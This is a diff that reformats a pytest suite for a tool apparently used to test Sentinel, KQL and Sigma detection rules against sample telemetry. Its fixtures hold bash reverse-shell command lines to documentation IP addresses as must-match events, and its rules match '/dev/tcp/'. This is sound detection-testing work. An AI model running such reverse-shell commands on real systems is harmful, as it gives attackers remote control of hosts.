@@ -19,13 +19,25 @@ LATER = "2026-03-05T13:00:00Z"
 #: The tiny store: one attack and one look-alike (a hard negative) in DeviceProcessEvents.
 EVENTS = {
     "attack/sim_shell/DeviceProcessEvents.jsonl": [
-        {"ReportId": 482913377104, "Timestamp": WHEN, "DeviceName": "app-01",
-         "AccountName": "svc-app", "FolderPath": "/usr/bin/bash",
-         "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}],
+        {
+            "ReportId": 482913377104,
+            "Timestamp": WHEN,
+            "DeviceName": "app-01",
+            "AccountName": "svc-app",
+            "FolderPath": "/usr/bin/bash",
+            "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
+        }
+    ],
     "benign/sim_shell/DeviceProcessEvents.jsonl": [
-        {"ReportId": 300918273645, "Timestamp": LATER, "DeviceName": "app-01",
-         "AccountName": "deploy", "FolderPath": "/usr/bin/bash",
-         "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432'"}],
+        {
+            "ReportId": 300918273645,
+            "Timestamp": LATER,
+            "DeviceName": "app-01",
+            "AccountName": "deploy",
+            "FolderPath": "/usr/bin/bash",
+            "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432'",
+        }
+    ],
 }
 
 
@@ -74,19 +86,35 @@ Timestamp [UTC],DeviceName,AccountName,ProcessCommandLine,AdditionalFields
 2025-11-04T14:02:11.000Z,app-07,svc-tomcat,"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1","{""a"": 1}"
 "11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",
 """
-NOMATCH = {"Timestamp": "2025-11-04T13:55:00Z", "DeviceName": "app-07", "AccountName": "deploy",
-           "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'"}
+NOMATCH = {
+    "Timestamp": "2025-11-04T13:55:00Z",
+    "DeviceName": "app-07",
+    "AccountName": "deploy",
+    "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'",
+}
 
 
 def rule(**changes: object) -> str:
-    values = {"connector": "MicrosoftThreatProtection", "threshold": 0, "tactic": "Execution",
-              "condition": STRICT, "host_column": "DeviceName"}
+    values = {
+        "connector": "MicrosoftThreatProtection",
+        "threshold": 0,
+        "tactic": "Execution",
+        "condition": STRICT,
+        "host_column": "DeviceName",
+    }
     values.update(changes)
     return RULE.format(**values)
 
 
-def add_rule(project: pytest.Pytester, name: str, text: str, *, match: str | None = MATCH_CSV,
-             nomatch: dict | None = NOMATCH, settings: str | None = None) -> Path:
+def add_rule(
+    project: pytest.Pytester,
+    name: str,
+    text: str,
+    *,
+    match: str | None = MATCH_CSV,
+    nomatch: dict | None = NOMATCH,
+    settings: str | None = None,
+) -> Path:
     path = project.path / "detections" / f"{name}.yaml"
     path.write_text(text)
     tests = path.with_name(f"{name}.tests")
@@ -120,29 +148,51 @@ def test_a_rule_without_test_data_is_marked_untested(project: pytest.Pytester) -
     result.stdout.fnmatch_lines(["*untested: no must-match events in detections/shell.tests/match/*"])
 
 
-@pytest.mark.parametrize(("changes", "check", "message"), [
-    ({"host_column": "Computer"}, "entities",
-     "*mapped columns missing from the query's output: Host.HostName -> Computer (output columns: "
-     "Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId)*"),
-    ({"tactic": "Exfiltration"}, "attack",
-     "*T1059.004 (Unix Shell) is under Execution, none of the listed tactics*"),
-    ({"tactic": "Sneaking"}, "attack", "*unknown tactic 'Sneaking'*"),
-    ({"connector": "AzureActiveDirectory"}, "connectors",
-     "*connector AzureActiveDirectory does not deliver DeviceProcessEvents; the query reads "
-     "DeviceProcessEvents, which no declared connector delivers*"),
-    ({"threshold": 5}, "true_positives",
-     "*would not fire: the run ending 2026-03-16T00:00Z that reads the must-match events gives 2 "
-     "result rows, and the rule fires when that is > 5 (triggerOperator gt; it runs every 1h over "
-     "the last 1h)*"),
-    ({"condition": '\n  | where AccountName == "nobody"'}, "true_positives",
-     "*raised no alert on its 2 must-match events (DeviceProcessEvents)*"),
-    ({"condition": ""}, "false_positives",
-     "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
-     "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
-     "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *"),
-])
-def test_each_check_names_what_is_wrong(project: pytest.Pytester, changes: dict, check: str,
-                                        message: str) -> None:
+@pytest.mark.parametrize(
+    ("changes", "check", "message"),
+    [
+        (
+            {"host_column": "Computer"},
+            "entities",
+            "*mapped columns missing from the query's output: Host.HostName -> Computer (output columns: "
+            "Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId)*",
+        ),
+        (
+            {"tactic": "Exfiltration"},
+            "attack",
+            "*T1059.004 (Unix Shell) is under Execution, none of the listed tactics*",
+        ),
+        ({"tactic": "Sneaking"}, "attack", "*unknown tactic 'Sneaking'*"),
+        (
+            {"connector": "AzureActiveDirectory"},
+            "connectors",
+            "*connector AzureActiveDirectory does not deliver DeviceProcessEvents; the query reads "
+            "DeviceProcessEvents, which no declared connector delivers*",
+        ),
+        (
+            {"threshold": 5},
+            "true_positives",
+            "*would not fire: the run ending 2026-03-16T00:00Z that reads the must-match events gives 2 "
+            "result rows, and the rule fires when that is > 5 (triggerOperator gt; it runs every 1h over "
+            "the last 1h)*",
+        ),
+        (
+            {"condition": '\n  | where AccountName == "nobody"'},
+            "true_positives",
+            "*raised no alert on its 2 must-match events (DeviceProcessEvents)*",
+        ),
+        (
+            {"condition": ""},
+            "false_positives",
+            "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
+            "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
+            "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *",
+        ),
+    ],
+)
+def test_each_check_names_what_is_wrong(
+    project: pytest.Pytester, changes: dict, check: str, message: str
+) -> None:
     add_rule(project, "shell", rule(**changes))
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines([f"*shell.yaml::{check} FAILED*"])
@@ -153,9 +203,9 @@ def test_must_not_match_events_and_the_budget(project: pytest.Pytester) -> None:
     add_rule(project, "shell", rule(condition=""), settings="max_false_positives: 1\n")
     result = project.runpytest()
     result.assert_outcomes(passed=6, failed=1)
-    result.stdout.fnmatch_lines([
-        "*alerted on its must-not-match events: 1 alerting runs with 1 rows from 1 events, "
-        "e.g. *deploy*"])
+    result.stdout.fnmatch_lines(
+        ["*alerted on its must-not-match events: 1 alerting runs with 1 rows from 1 events, e.g. *deploy*"]
+    )
 
 
 def test_broken_yaml_fails_parse_and_skips_the_rest(project: pytest.Pytester) -> None:
@@ -163,47 +213,68 @@ def test_broken_yaml_fails_parse_and_skips_the_rest(project: pytest.Pytester) ->
     add_rule(project, "shell", rule())
     result = project.runpytest("-rs")
     result.assert_outcomes(passed=7, failed=1, skipped=6)
-    result.stdout.fnmatch_lines(["*'broken' (detections/broken.yaml): does not parse: invalid YAML "
-                                 "at line *"])
+    result.stdout.fnmatch_lines(
+        ["*'broken' (detections/broken.yaml): does not parse: invalid YAML at line *"]
+    )
 
 
 def test_schema_fields_are_checked(project: pytest.Pytester) -> None:
-    text = rule().replace("triggerOperator: gt", "triggerOperator: above").replace(
-        "queryPeriod: 1h", "queryPeriod: 30d")
+    text = (
+        rule()
+        .replace("triggerOperator: gt", "triggerOperator: above")
+        .replace("queryPeriod: 1h", "queryPeriod: 30d")
+    )
     add_rule(project, "shell", text)
     result = project.runpytest()
-    result.stdout.fnmatch_lines([
-        "*: queryPeriod is over 14d; triggerOperator 'above': expected gt, lt, eq or ne*"])
+    result.stdout.fnmatch_lines(
+        ["*: queryPeriod is over 14d; triggerOperator 'above': expected gt, lt, eq or ne*"]
+    )
 
 
 def test_unknown_test_data_column_names_file_and_line(project: pytest.Pytester) -> None:
     add_rule(project, "shell", rule(), match="Timestamp,Nope\n2025-11-04T14:02:11Z,x\n")
     result = project.runpytest()
-    result.stdout.fnmatch_lines(["*test data: */shell.tests/match/DeviceProcessEvents.csv:2: "
-                                 "column 'Nope' is not in DeviceProcessEvents*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*test data: */shell.tests/match/DeviceProcessEvents.csv:2: "
+            "column 'Nope' is not in DeviceProcessEvents*"
+        ]
+    )
 
 
 def test_table_read_without_a_schema_is_named(project: pytest.Pytester) -> None:
-    text = rule(condition="\n  | join kind=leftouter (IdentityInfo) on $left.AccountName == "
-                          "$right.AccountName")
+    text = rule(
+        condition="\n  | join kind=leftouter (IdentityInfo) on $left.AccountName == $right.AccountName"
+    )
     add_rule(project, "shell", text)
     result = project.runpytest("-rs")
-    result.stdout.fnmatch_lines(["*shell.yaml): reads IdentityInfo, which the telemetry has no "
-                                 "schema for*",
-                                 "*cannot run offline: no schema for IdentityInfo*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*shell.yaml): reads IdentityInfo, which the telemetry has no schema for*",
+            "*cannot run offline: no schema for IdentityInfo*",
+        ]
+    )
 
 
 def test_a_watchlist_is_named_not_called_a_syntax_error(project: pytest.Pytester) -> None:
-    add_rule(project, "shell", rule(
-        condition='\n  | where AccountName in (_GetWatchlist("admins") | project SearchKey)'))
+    add_rule(
+        project,
+        "shell",
+        rule(condition='\n  | where AccountName in (_GetWatchlist("admins") | project SearchKey)'),
+    )
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines(["*shell.yaml::parse PASSED*"])
-    result.stdout.fnmatch_lines(["*shell.yaml): calls _GetWatchlist, a Sentinel workspace function "
-                                 "(a watchlist or an ASIM parser) that cannot run offline*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*shell.yaml): calls _GetWatchlist, a Sentinel workspace function "
+            "(a watchlist or an ASIM parser) that cannot run offline*"
+        ]
+    )
 
 
 def test_sigma_and_kql_in_the_content_folder_use_the_rules_gate(project: pytest.Pytester) -> None:
-    (project.path / "detections" / "shell.yml").write_text(textwrap.dedent("""\
+    (project.path / "detections" / "shell.yml").write_text(
+        textwrap.dedent("""\
         title: Reverse shell
         status: test
         logsource:
@@ -213,19 +284,26 @@ def test_sigma_and_kql_in_the_content_folder_use_the_rules_gate(project: pytest.
             selection:
                 CommandLine|contains: '/dev/tcp/'
             condition: selection
-    """))
+    """)
+    )
     (project.path / "detections" / "q.kql").write_text(
-        'DeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n')
+        'DeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n'
+    )
     (project.path / "detections" / "q.yml").write_text("title: Q\n")
     (project.path / "detections" / "hunt.kql").write_text(
-        "DeviceProcessEvents | summarize count() by AccountName\n")
+        "DeviceProcessEvents | summarize count() by AccountName\n"
+    )
     (project.path / "detections" / "typo.kql").write_text("DeviceProcessEvents | where Nope == 1\n")
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines(["*hunt.kql::parse PASSED*", "*hunt.kql::runs PASSED*"])
     result.stdout.fnmatch_lines(["*q.kql::parse PASSED*"])
     result.stdout.fnmatch_lines(["*shell.yml::validate PASSED*"])
-    result.stdout.fnmatch_lines(["'typo' (detections/typo.kql): does not run over the store: "
-                                 "semantic error at 1:29: unknown column 'Nope'"])
+    result.stdout.fnmatch_lines(
+        [
+            "'typo' (detections/typo.kql): does not run over the store: "
+            "semantic error at 1:29: unknown column 'Nope'"
+        ]
+    )
     result.stdout.fnmatch_lines(["*hunt.kql::true_positives SKIPPED*"])
     result.assert_outcomes(passed=11, failed=1, skipped=2)
 
@@ -249,20 +327,27 @@ Timestamp,DeviceName,AccountName,AccountDomain,AccountUpn,ProcessId,FileName,Fol
 P, F, S = "PASSED", "FAILED", "SKIPPED"
 #: Per published rule, per check: what the gate says over the tiny store.
 EXPECTED = {
-    "LaZagneCredTheft": dict(parse=P, runs=F, connectors=P, entities=S, attack=P,
-                             true_positives=S, false_positives=S),
-    "MFARejectedbyUser": dict(parse=P, runs=F, connectors=F, entities=S, attack=P,
-                              true_positives=S, false_positives=S),
-    "NRT_NewAppOrServicePrincipalCredential": dict(parse=F, runs=S, connectors=S, entities=S,
-                                                   attack=S, true_positives=S, false_positives=S),
-    "New-CloudShell-User": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
-                                true_positives=S, false_positives=P),
-    "exchange_auditlogdisabled": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
-                                      true_positives=S, false_positives=P),
-    "UserAssignedPrivilegedRole": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
-                                       true_positives=S, false_positives=P),
-    "ShadowCopyDeletion": dict(parse=P, runs=P, connectors=P, entities=P, attack=P,
-                               true_positives=P, false_positives=P),
+    "LaZagneCredTheft": dict(
+        parse=P, runs=F, connectors=P, entities=S, attack=P, true_positives=S, false_positives=S
+    ),
+    "MFARejectedbyUser": dict(
+        parse=P, runs=F, connectors=F, entities=S, attack=P, true_positives=S, false_positives=S
+    ),
+    "NRT_NewAppOrServicePrincipalCredential": dict(
+        parse=F, runs=S, connectors=S, entities=S, attack=S, true_positives=S, false_positives=S
+    ),
+    "New-CloudShell-User": dict(
+        parse=P, runs=P, connectors=P, entities=P, attack=P, true_positives=S, false_positives=P
+    ),
+    "exchange_auditlogdisabled": dict(
+        parse=P, runs=P, connectors=P, entities=P, attack=P, true_positives=S, false_positives=P
+    ),
+    "UserAssignedPrivilegedRole": dict(
+        parse=P, runs=P, connectors=P, entities=P, attack=P, true_positives=S, false_positives=P
+    ),
+    "ShadowCopyDeletion": dict(
+        parse=P, runs=P, connectors=P, entities=P, attack=P, true_positives=P, false_positives=P
+    ),
     "reverse_shell_from_service_account": {check: P for check in CHECKS},
 }
 
@@ -273,8 +358,9 @@ def test_published_rules_from_init_to_a_verdict(pytester: pytest.Pytester, store
     write_telemetry(pytester.path / "telemetry")
     assert main(["init", str(pytester.path)]) == 0
     ini = pytester.path / "pytest.ini"
-    ini.write_text(ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 "
-                                      "-p no:cacheprovider\n")
+    ini.write_text(
+        ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 -p no:cacheprovider\n"
+    )
     assert (pytester.path / ".github" / "workflows" / "detections.yml").is_file()
     for path in SAMPLE.glob("*.yaml"):
         shutil.copy(path, pytester.path / "detections" / path.name)
@@ -290,13 +376,17 @@ def test_published_rules_from_init_to_a_verdict(pytester: pytest.Pytester, store
             name, check = node.removeprefix("detections/").split(".yaml::")
             seen.setdefault(name, {})[check] = outcome
     assert seen == EXPECTED
-    result.stdout.fnmatch_lines([
-        "*LaZagneCredTheft.yaml): does not run over the store: semantic error at 5:25: unknown "
-        "column 'DeviceName'*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*LaZagneCredTheft.yaml): does not run over the store: semantic error at 5:25: unknown "
+            "column 'DeviceName'*"
+        ]
+    )
 
 
-def test_a_folder_of_rules_and_one_export_in_three_commands(pytester: pytest.Pytester,
-                                                            store_cache: Path) -> None:
+def test_a_folder_of_rules_and_one_export_in_three_commands(
+    pytester: pytest.Pytester, store_cache: Path
+) -> None:
     # What docs/gating.md walks through: a few published rules and one portal export in a
     # folder of their own; `ctirealm init` finds them, writes no example, and pytest judges them.
     from ctirealm.cli import main
@@ -313,8 +403,9 @@ def test_a_folder_of_rules_and_one_export_in_three_commands(pytester: pytest.Pyt
     assert not (pytester.path / "detections").exists()
     ini = pytester.path / "pytest.ini"
     assert "testpaths = analytics\nrealm_content = analytics\n" in ini.read_text()
-    ini.write_text(ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 "
-                                      "-p no:cacheprovider\n")
+    ini.write_text(
+        ini.read_text() + f"addopts = --realm-cache-dir={store_cache} --realm-rows=0 -p no:cacheprovider\n"
+    )
     result = pytester.runpytest("-rs")
     result.assert_outcomes(passed=16, failed=1, skipped=4)
     assert result.ret == pytest.ExitCode.TESTS_FAILED
@@ -339,8 +430,10 @@ def test_init_never_overwrites(tmp_path: Path) -> None:
 
 def test_the_content_hooks_load_no_engine_and_no_sigma() -> None:
     # Installed plugins load in every pytest run; only collecting a rule may load the engine.
-    code = ("import json, sys\nimport ctirealm.plugin.content\n"
-            "print(json.dumps(sorted(m for m in ('duckdb', 'duckdb_kql', 'sigma') if m in sys.modules)))")
+    code = (
+        "import json, sys\nimport ctirealm.plugin.content\n"
+        "print(json.dumps(sorted(m for m in ('duckdb', 'duckdb_kql', 'sigma') if m in sys.modules)))"
+    )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert json.loads(done.stdout) == []
 
@@ -357,31 +450,44 @@ def test_a_threshold_is_met_per_run_not_over_the_whole_window(project: pytest.Py
     add_rule(project, "shell", rule(condition="", threshold=1), nomatch=None)
     result = project.runpytest("-v")
     result.assert_outcomes(passed=7)
-    add_rule(project, "strict", rule(condition="", threshold=2).replace("name: Interactive",
-                                                                        "name: Strict"),
-             nomatch=None)
+    add_rule(
+        project,
+        "strict",
+        rule(condition="", threshold=2).replace("name: Interactive", "name: Strict"),
+        nomatch=None,
+    )
     result = project.runpytest("-v", "detections/strict.yaml")
-    result.stdout.fnmatch_lines([
-        "*'Strict reverse shell' (detections/strict.yaml): would not fire: the run ending "
-        "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, and the rule "
-        "fires when that is > 2 (triggerOperator gt; it runs every 1h over the last 1h)*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*'Strict reverse shell' (detections/strict.yaml): would not fire: the run ending "
+            "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, and the rule "
+            "fires when that is > 2 (triggerOperator gt; it runs every 1h over the last 1h)*"
+        ]
+    )
 
 
 def test_a_clock_dependent_query_runs_per_window_with_now_pinned(project: pytest.Pytester) -> None:
     # ago() is relative to each run's end: were now() the dataset's clock, no run in the
     # middle of the window would see the store's events at all.
-    query = rule(condition="").replace("  DeviceProcessEvents\n",
-                                       "  DeviceProcessEvents\n  | where Timestamp > ago(2h)\n")
+    query = rule(condition="").replace(
+        "  DeviceProcessEvents\n", "  DeviceProcessEvents\n  | where Timestamp > ago(2h)\n"
+    )
     add_rule(project, "shell", query)
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines(["*shell.yaml::true_positives PASSED*"])
-    result.stdout.fnmatch_lines([
-        "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
-        "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
-        "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *deploy*"])
-    result.stdout.fnmatch_lines([
-        "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
-        "it calls ago(); 2 raise alerts"])
+    result.stdout.fnmatch_lines(
+        [
+            "*raised 1 false-positive alerts over the store's benign activity (max_false_positives: 0) "
+            "in 336 runs every 1h over the last 1h, alerting when results > 0: their rows hold "
+            "1 hard negatives, 0 background, e.g. the run ending 2026-03-05T14:00Z: *deploy*"
+        ]
+    )
+    result.stdout.fnmatch_lines(
+        [
+            "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
+            "it calls ago(); 2 raise alerts"
+        ]
+    )
 
 
 def test_an_aggregating_rule_counts_within_each_run(project: pytest.Pytester) -> None:
@@ -390,23 +496,31 @@ def test_an_aggregating_rule_counts_within_each_run(project: pytest.Pytester) ->
     text = rule(condition="").replace(
         "  | project Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId\n",
         "  | summarize Events = count(), Accounts = make_set(AccountName) by DeviceName\n"
-        "  | where Events > 1\n")
+        "  | where Events > 1\n",
+    )
     add_rule(project, "shell", text)
     result = project.runpytest("-v", "-rA")
     result.assert_outcomes(passed=7)
-    result.stdout.fnmatch_lines([
-        "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
-        "it aggregates across the lookback (summarize); 0 raise alerts"])
+    result.stdout.fnmatch_lines(
+        [
+            "336 runs (every 1h over the last 1h, alerting when results > 0), per run: not binned: "
+            "it aggregates across the lookback (summarize); 0 raise alerts"
+        ]
+    )
 
 
 def test_iso_durations_and_a_daily_schedule(project: pytest.Pytester) -> None:
-    text = rule().replace("queryFrequency: 1h", "queryFrequency: PT12H").replace(
-        "queryPeriod: 1h", "queryPeriod: P1D")
+    text = (
+        rule()
+        .replace("queryFrequency: 1h", "queryFrequency: PT12H")
+        .replace("queryPeriod: 1h", "queryPeriod: P1D")
+    )
     add_rule(project, "shell", text)
     result = project.runpytest("-v", "-rA")
     result.assert_outcomes(passed=7)
-    result.stdout.fnmatch_lines([
-        "28 runs (every 12h over the last 1d, alerting when results > 0), binned; * raise alerts"])
+    result.stdout.fnmatch_lines(
+        ["28 runs (every 12h over the last 1d, alerting when results > 0), binned; * raise alerts"]
+    )
 
 
 # -- hunting queries ----------------------------------------------------------------------------
@@ -435,11 +549,11 @@ entityMappings:
 """
 
 
-def test_a_hunting_query_without_test_data_is_checked_and_marked_untested(
-        project: pytest.Pytester) -> None:
+def test_a_hunting_query_without_test_data_is_checked_and_marked_untested(project: pytest.Pytester) -> None:
     (project.path / "detections" / "hunt.yaml").write_text(HUNTING)
     (project.path / "detections" / "bare.kql").write_text(
-        '// Defender advanced hunting\nDeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n')
+        '// Defender advanced hunting\nDeviceProcessEvents | where ProcessCommandLine has "/dev/tcp/"\n'
+    )
     result = project.runpytest("-v", "-rs")
     for check in ("parse", "runs", "connectors", "entities", "attack"):
         result.stdout.fnmatch_lines([f"*hunt.yaml::{check} PASSED*"])
@@ -455,34 +569,42 @@ def test_a_hunting_query_returns_its_must_match_events(project: pytest.Pytester)
     match.mkdir(parents=True)
     (match / "DeviceProcessEvents.csv").write_text(MATCH_CSV)
     (project.path / "detections" / "narrow.kql").write_text(
-        'DeviceProcessEvents | where ProcessCommandLine has "4444" | project ReportId, DeviceName\n')
+        'DeviceProcessEvents | where ProcessCommandLine has "4444" | project ReportId, DeviceName\n'
+    )
     match = project.path / "detections" / "narrow.tests" / "match"
     match.mkdir(parents=True)
     (match / "DeviceProcessEvents.csv").write_text(MATCH_CSV)
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines(["*hunt.yaml::true_positives PASSED*"])
-    result.stdout.fnmatch_lines(["'narrow' (detections/narrow.kql): missed 1 of 2 must-match "
-                                 "events: *"])
+    result.stdout.fnmatch_lines(["'narrow' (detections/narrow.kql): missed 1 of 2 must-match events: *"])
     result.assert_outcomes(passed=8, failed=1)
 
 
 # -- entity mappings, strictly ------------------------------------------------------------------
 
+
 def test_a_mapped_column_must_hold_a_value_on_every_matched_row(project: pytest.Pytester) -> None:
-    text = rule().replace("""        columnName: DeviceName
-""", """        columnName: DeviceName
+    text = rule().replace(
+        """        columnName: DeviceName
+""",
+        """        columnName: DeviceName
   - entityType: Account
     fieldMappings:
       - identifier: Name
         columnName: AccountName
-""")
-    blank = MATCH_CSV.replace('"11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,',
-                              '"11/4/2025, 2:09:40.000 PM",app-07,,')
+""",
+    )
+    blank = MATCH_CSV.replace(
+        '"11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,', '"11/4/2025, 2:09:40.000 PM",app-07,,'
+    )
     add_rule(project, "shell", text, match=blank)
     result = project.runpytest("-v")
     result.stdout.fnmatch_lines(["*shell.yaml::entities FAILED*"])
-    result.stdout.fnmatch_lines([
-        "'Interactive reverse shell' (detections/shell.yaml): mapped columns without a value on "
-        "the rows the must-match events raise (Sentinel drops such an entity from the alert): "
-        "entity Account, identifier Name: column AccountName is empty on 1 of 2, e.g. *"])
+    result.stdout.fnmatch_lines(
+        [
+            "'Interactive reverse shell' (detections/shell.yaml): mapped columns without a value on "
+            "the rows the must-match events raise (Sentinel drops such an entity from the alert): "
+            "entity Account, identifier Name: column AccountName is empty on 1 of 2, e.g. *"
+        ]
+    )
     result.assert_outcomes(passed=6, failed=1)
